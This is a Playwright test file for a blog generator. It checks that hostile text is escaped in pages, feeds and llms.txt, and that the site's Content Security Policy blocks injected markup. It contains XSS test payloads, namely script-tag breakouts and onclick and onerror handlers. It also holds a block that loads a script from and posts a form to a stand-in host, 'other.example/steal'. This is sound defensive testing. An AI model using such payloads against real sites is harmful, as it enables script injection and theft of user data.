import { readFileSync } from 'node:fs';
import { expect, type Page, test } from 'playwright/test';
import { settings } from '../lib/config/settings.ts';
import { readContent } from '../lib/content/read-articles.ts';
import { localUrl, sites } from './sites.ts';

/* `e2e/pages.spec.ts` tests that no injected script runs or loads anything. */

const article = readContent(sites.awkward.content).articles.find(
  ({ id }) => id === 3,
);
if (!article) {
  throw new Error('e2e/awkward has no article 3.');
}
const { title, subtitle = '', mainimgalt = '' } = article;

const preview = title
  .replace('This title', 'This preview')
  .replace('as titles', 'as previews');
const url = `${settings.siteUrl}/blog/3/`;
const headingText = `</script><b>&"' 🛬 שלום`;

test('escapes hostile text in the page, its head, its JSON-LD, and lists', async ({
  page,
}) => {
  await page.goto('/blog/3/');
  await expect(page).toHaveTitle(`${title} · ${settings.siteName}`);
  const alt = `${title}. ${settings.siteName}. ${mainimgalt}.`;
  for (const [name, text] of Object.entries({
    description: preview,
    'og:title': title,
    'og:image:alt': alt,
  })) {
    await expect(
      page.locator(`meta[name="${name}"], meta[property="${name}"]`),
    ).toHaveAttribute('content', text);
  }
  const script = await page
    .locator('script[type="application/ld+json"]')
    .textContent();
  expect(JSON.parse(script ?? '')['@graph']).toMatchObject([
    { headline: title, alternativeHeadline: subtitle, description: preview },
    { itemListElement: [{}, {}, { name: title, item: url }] },
  ]);
  await expect(page.locator('h1')).toHaveText(title);
  await expect(page.locator('article > header .subtitle')).toHaveText(subtitle);
  await expect(page.locator('.cover')).toHaveAttribute('alt', mainimgalt);
  await expect(page.locator('.prose > p').first()).toContainText(
    '</script><script>globalThis.wasRun = true</script>',
  );
  const heading = page.getByRole('heading', { name: headingText });
  await page
    .getByRole('navigation', { name: 'On this page' })
    .getByRole('link')
    .first()
    .click();
  await expect(heading).toBeInViewport();
  await expect(heading.getByRole('link')).toHaveAttribute(
    'href',
    decodeURIComponent(new URL(page.url()).hash),
  );
  await expect(page.locator('b')).toHaveCount(0);
  await page.goto('/blog/');
  await expect(page.locator('b')).toHaveCount(0);
  const entry = page.locator('.entry', {
    has: page.locator('a[href="/blog/3/"]'),
  });
  await expect(entry.getByRole('link')).toHaveText(title);
  await expect(entry.locator('.subtitle')).toHaveText(subtitle);
  await expect(entry.locator('.preview')).toHaveText(preview);
});

test('escapes hostile text in feeds and llms.txt', async ({ page }) => {
  const read = (path: string) =>
    readFileSync(`${sites.awkward.out}/${path}`, 'utf8');
  const items: readonly Readonly<Record<string, string>>[] = JSON.parse(
    read('blog/feed.json'),
  ).items;
  const item = items.find((entry) => entry['url'] === url);
  expect(item).toMatchObject({ title, summary: preview });
  // Shows the article in a page, as feed readers do.
  await page.setContent(item?.['content_html'] ?? '');
  await expect(page.locator('script, b')).toHaveCount(0);
  await expect(page.locator('img').first()).toHaveAttribute('alt', mainimgalt);
  await expect(page.locator('h2').first()).toHaveText(headingText);
  await expect(page.locator('pre')).toContainText(
    '</script></pre><script>globalThis.wasRun = true</script> ]]>',
  );
  await page.goto('/blog/feed.xml');
  const entry = page.locator('entry', {
    has: page.locator('title', { hasText: title }),
  });
  await expect(entry.locator('summary')).toHaveText(preview);
  const content = (await entry.locator('content').textContent())?.replaceAll(
    ']]&gt;',
    ']]>',
  );
  expect(content).toBe(item?.['content_html']);
  expect(await page.evaluate(() => 'wasRun' in globalThis)).toBe(false);
  const lines = read('llms.txt').split('\n');
  const [line = '', ...others] = lines.filter((text) => text.includes(url));
  const [name, text] = line.replace(/^- \[/, '').split(`](${url}): `);
  expect([name, text].map((part) => part?.replace(/\\(.)/g, '$1'))).toEqual([
    title,
    preview,
  ]);
  expect(others).toEqual([]);
});

/** Inserts `more` before `end` in the response for `path`, and records CSP violations in the page. */
async function inject(
  page: Page,
  path: string,
  end: string,
  more: string,
): Promise<void> {
  await page.addInitScript(() => {
    const violations: string[] = [];
    Object.assign(window, { violations });
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      violations.push(effectiveDirective),
    );
  });
  await page.route(`**${path}`, async (route) => {
    const response = await route.fetch();
    const { 'content-security-policy': csp = '', ...headers } =
      response.headers();
    // Removes the CSP header of pages, so that only the CSP in their HTML applies.
    const policy = path.endsWith('/') ? {} : { 'content-security-policy': csp };
    const body = (await response.text()).replace(end, `${more}${end}`);
    await route.fulfill({
      status: 200,
      headers: { ...headers, ...policy },
      body,
    });
  });
}

/** Returns the violated directives, and the name of a successful attack or undefined. */
const outcome = (page: Page) =>
  page.evaluate(
    () =>
      [
        Reflect.get(window, 'violations'),
        Reflect.get(window, 'attacked'),
      ] as const,
  );

const attack = `
  <p id="styled" style="position: fixed">x</p>
  <button id="handler" onclick="window.attacked = 'handler'">x</button>
  <img src="/missing.png" onerror="window.attacked = 'error'" alt="">
  <script>window.attacked = 'script';</script>
  <script src="https://other.example/x.js"></script>
  <style>#styled { float: right }</style>
  <form action="https://other.example/steal" method="post"><button id="form">x</button></form>
  <base href="https://other.example/">`;

for (const path of ['/code/7/', '/contact/']) {
  test(`the CSP of ${path} blocks injected scripts, styles, and forms`, async ({
    page,
  }) => {
    const { headers } = await fetch(localUrl(sites.awkward) + path);
    expect(headers.get('content-security-policy')).toBe(
      "frame-ancestors 'none'; base-uri 'none'; object-src 'none'",
    );
    await inject(page, path, '</main>', attack);
    await page.goto(path);
    await expect(page.locator('#styled')).toHaveCSS('position', 'static');
    await expect(page.locator('#styled')).toHaveCSS('float', 'none');
    await page.locator('#handler').click();
    // Submits the form last and with a script, because Playwright waits for the navigation that the CSP blocks.
    await page
      .locator('#form')
      .evaluate((button: HTMLElement) => button.click());
    const blocked =
      'script-src-elem script-src-attr style-src-elem style-src-attr base-uri form-action'.split(
        ' ',
      );
    await expect
      .poll(() => outcome(page))
      .toEqual([expect.arrayContaining(blocked), undefined]);
  });
}

test('an SVG opened by itself keeps its styles and runs no scripts', async ({
  page,
}) => {
  const more =
    "<style>svg { opacity: 0.5 }</style><script>window.attacked = 'script';</script>";
  await inject(page, '/icon.svg', '</svg>', more);
  await page.goto('/icon.svg');
  await expect
    .poll(() => outcome(page))
    .toEqual([['script-src-elem'], undefined]);
  await expect(page.locator('svg').first()).toHaveCSS('opacity', '0.5');
});
